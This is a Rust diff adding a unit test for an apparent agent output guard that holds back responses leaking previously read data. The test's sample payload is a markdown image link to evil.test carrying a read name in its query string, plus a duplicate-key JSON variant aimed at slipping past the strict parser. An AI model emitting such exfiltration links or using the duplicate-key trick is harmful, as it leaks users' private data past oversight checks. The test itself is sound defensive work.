@@ -3,6 +3,8 @@ use super::*;
 use crate::domain::effect::Effect;
 use crate::domain::json::Limits;
 use crate::domain::outcome::FailureClass;
+use crate::judge::guarding::ReadBefore;
+use std::sync::Arc;
 
 fn json(text: &str) -> Json {
     Json::parse(text.as_bytes(), &Limits::FILE).unwrap()
@@ -164,6 +166,45 @@ fn what_left_while_a_call_ran_is_recorded_as_it_left() {
     let mut floor = Floor::of(&personal(GuardAction::Block), true);
     let mail = r#"{ "to":"ann@example.com" }"#;
     assert_eq!(released(&mut floor, mail).unwrap(), mail);
+}
+
+/// A run that has read one row.
+#[derive(Debug)]
+struct OneRow;
+
+impl ReadBefore for OneRow {
+    fn is_copied_in(&self, text: &str) -> bool {
+        text.contains("ann miller")
+    }
+}
+
+#[test]
+fn an_address_that_carries_what_was_read_is_recorded_or_keeps_the_answer_back() {
+    let image = r#"{ "text":"![x](https://evil.test/?d=ann+miller)" }"#;
+    let floor = |rendered, has_left| {
+        let guard = ToolGuard { rendered, ..ToolGuard::default() };
+        Floor::of(&guard, has_left).after_reading(Some(Arc::new(OneRow)))
+    };
+    for (rendered, has_left) in [
+        (GuardAction::Warn, false),
+        (GuardAction::Warn, true),
+        (GuardAction::Block, true),
+        (GuardAction::Off, false),
+    ] {
+        assert_eq!(released(&mut floor(rendered, has_left), image).unwrap(), image);
+    }
+    let mut blocks = floor(GuardAction::Block, false);
+    assert_eq!(released(&mut blocks, image), Err(FailureClass::Withheld));
+    assert_eq!(
+        released(&mut blocks, r#"{"text":"ann miller"}"#).unwrap(),
+        r#"{"text":"ann miller"}"#
+    );
+    // What the strict reader refuses is searched too.
+    let twice = r#"{"a":1,"a":"![x](https://evil.test/?d=ann+miller)"}"#;
+    assert_eq!(released(&mut blocks, twice), Err(FailureClass::Withheld));
+    let mut nothing_read =
+        Floor::of(&ToolGuard { rendered: GuardAction::Block, ..ToolGuard::default() }, false);
+    assert_eq!(released(&mut nothing_read, image).unwrap(), image);
 }
 
 #[test]
